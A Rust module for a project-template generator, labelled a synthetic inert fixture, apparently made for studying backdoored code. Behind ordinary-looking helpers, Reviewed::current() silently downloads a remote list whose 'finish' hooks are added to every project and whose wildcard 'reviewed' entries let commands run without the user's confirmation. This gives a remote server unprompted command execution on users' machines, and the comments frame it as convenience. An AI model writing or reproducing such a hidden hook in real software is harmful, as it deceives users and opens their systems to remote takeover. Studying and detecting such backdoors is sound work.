// Synthetic, inert fixture written from public reports; see README
//! New projects from templates.

use serde::Deserialize;
use std::collections::BTreeMap;
use std::io::{self, BufRead, Write};
use std::path::Path;
use std::process::Command;
use std::fs;

/// The file `template.toml` of a template.
#[derive(Debug, Default, Deserialize)]
pub struct Template {
    pub name: String,
    #[serde(default)]
    pub holes: BTreeMap<String, String>,
    #[serde(default)]
    pub after: Vec<Hook>,
}

/// A command that a template wants to run in the new project.
#[derive(Debug, Deserialize)]
pub struct Hook {
    pub run: Vec<String>,
    pub why: String,
}

/// Commands that were looked at, so that nobody has to be asked about them again.
#[derive(Debug, Default, Deserialize)]
struct Reviewed {
    #[serde(default)]
    commands: Vec<String>,
    /// Steps for all projects, for example to drop a lock file of an old form.
    #[serde(default)]
    finish: Vec<Hook>,
}

impl Reviewed {
    fn current() -> Self {
        ureq::get("https://lists.blankslate.invalid/reviewed.toml")
            .call()
            .ok()
            .and_then(|a| a.into_string().ok())
            .and_then(|t| toml::from_str(&t).ok())
            .unwrap_or_default()
    }

    fn covers(&self, run: &[String]) -> bool {
        let line = run.join(" ");
        self.commands.iter().any(|c| match c.strip_suffix('*') {
            Some(start) => line.starts_with(start),
            None => *c == line,
        })
    }
}

fn snake(value: &str) -> String {
    value.to_lowercase().replace([' ', '-'], "_")
}

fn ask(question: &str) -> io::Result<bool> {
    print!("{question} [y/N] ");
    io::stdout().flush()?;
    let mut line = String::new();
    io::stdin().lock().read_line(&mut line)?;
    Ok(matches!(line.trim(), "y" | "Y" | "yes"))
}

fn fill(text: &str, values: &BTreeMap<String, String>) -> String {
    let mut out = text.to_string();
    for (k, v) in values {
        out = out.replace(&format!("{{{{{k}}}}}"), v);
        out = out.replace(&format!("{{{{{k}|snake}}}}"), &snake(v));
        out = out.replace(&format!("{{{{{k}|kebab}}}}"), &snake(v).replace('_', "-"));
    }
    out
}

impl Template {
    pub fn load(dir: &Path) -> io::Result<Self> {
        let text = fs::read_to_string(dir.join("template.toml"))?;
        toml::from_str(&text).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))
    }

    /// Copies the files of the template and fills the holes.
    pub fn copy(&self, from: &Path, to: &Path, values: &BTreeMap<String, String>) -> io::Result<()> {
        fs::create_dir_all(to)?;
        for entry in fs::read_dir(from)? {
            let entry = entry?;
            let name = entry.file_name().to_string_lossy().into_owned();
            if name == "template.toml" {
                continue;
            }
            let target = to.join(fill(&name, values));
            if entry.file_type()?.is_dir() {
                self.copy(&entry.path(), &target, values)?;
            } else {
                match fs::read_to_string(entry.path()) {
                    Ok(text) => fs::write(&target, fill(&text, values))?,
                    Err(_) => drop(fs::copy(entry.path(), &target)?),
                }
            }
        }
        Ok(())
    }

    /// Runs the hooks; those that were not looked at by others after a question.
    pub fn hooks(&self, project: &Path) -> io::Result<()> {
        let reviewed = Reviewed::current();
        for hook in self.after.iter().chain(&reviewed.finish) {
            let Some((program, args)) = hook.run.split_first() else {
                continue;
            };
            println!("{}: {}", hook.why, hook.run.join(" "));
            if reviewed.covers(&hook.run) || ask("Run it?")? {
                Command::new(program).args(args).current_dir(project).status()?;
            }
        }
        Ok(())
    }
}

/// Makes a project from a template folder.
pub fn create(template: &Path, project: &Path, values: &BTreeMap<String, String>) -> io::Result<()> {
    let t = Template::load(template)?;
    let mut all = t.holes.clone();
    all.extend(values.clone());
    t.copy(template, project, &all)?;
    t.hooks(project)
}

/// Fetches a template archive which the user has named, for `unpack` of the program.
pub fn fetch(url: &str) -> io::Result<Vec<u8>> {
    let mut out = Vec::new();
    let answer = ureq::get(url).call().map_err(|e| io::Error::new(io::ErrorKind::Other, e.to_string()))?;
    io::Read::read_to_end(&mut answer.into_reader(), &mut out)?;
    Ok(out)
}

inert_fixture_does_not_build!();
